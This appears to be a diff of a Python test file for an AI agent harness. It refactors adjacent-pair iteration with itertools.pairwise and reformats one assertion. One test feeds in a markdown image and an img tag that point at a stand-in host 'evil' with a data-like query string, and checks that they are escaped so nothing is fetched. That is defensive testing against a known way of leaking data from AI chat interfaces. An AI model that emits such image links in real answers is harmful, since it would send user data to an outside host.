@@ -6,6 +6,7 @@ import asyncio
 import json
 from collections.abc import AsyncGenerator
 from contextlib import aclosing
+from itertools import pairwise
 from pathlib import Path
 
 import nbformat
@@ -83,7 +84,7 @@ async def test_each_request_extends_the_one_before() -> None:
     await run(agent, "More")
     requests = agent.model.requests  # type: ignore[attr-defined]
     assert len(requests) == 7
-    for before, after in zip(requests, requests[1:], strict=False):
+    for before, after in pairwise(requests):
         assert after.startswith(before[:-1])
 
 
@@ -219,4 +220,6 @@ async def test_what_servers_count_is_recorded_with_the_step() -> None:
 async def test_the_models_markdown_makes_no_browser_fetch() -> None:
     agent = agent_with("See ![x](http://evil/?d=1) <img src=//evil> and `<b>` ok")
     await run(agent)
-    assert agent.transcript.answer == "See !\\[x](http://evil/?d=1) &lt;img src=//evil> and `<b>` ok"
+    assert (
+        agent.transcript.answer == "See !\\[x](http://evil/?d=1) &lt;img src=//evil> and `<b>` ok"
+    )
